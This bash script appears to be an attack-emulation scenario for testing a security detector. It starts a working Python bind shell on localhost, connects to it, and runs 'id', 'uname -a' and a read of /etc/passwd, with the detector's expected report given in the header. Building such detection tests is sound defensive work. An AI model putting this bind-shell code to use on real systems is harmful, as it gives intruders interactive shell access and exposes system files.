#!/bin/bash
# vigil-emulation: attack
# technique: T1059.006 Command and Scripting Interpreter: Python
# tactic: execution, command-and-control
# what: a bind shell: python listens on 127.0.0.1:PORT and, for the connection it accepts,
#   runs /bin/sh with stdin, stdout and stderr on the accepted socket; the "attacker" (the
#   scenario's driver) connects and runs `id`, `uname -a`, `cat /etc/passwd | head -3`.
# report: a shell whose stdin and stdout are a socket: a bind shell listening on
#   127.0.0.1:PORT, started by python.
# expect: bind shell|reverse shell|shell on a socket|backdoor
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

port=$("$PY" -c "import socket;s=socket.socket();s.bind(('127.0.0.1',0));print(s.getsockname()[1])")
emul_bg timeout 30 "$PY" -c "
import os,socket,subprocess
s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(('127.0.0.1',$port));s.listen(1)
c,_=s.accept()
subprocess.call(['/bin/sh','-i'],stdin=c,stdout=c,stderr=c)
"
shell=$EMUL_BG_PID
"$PY" "$SERVERS" drive --connect "127.0.0.1:$port" --commands "id;uname -a;cat /etc/passwd | head -3"
wait "$shell" || true
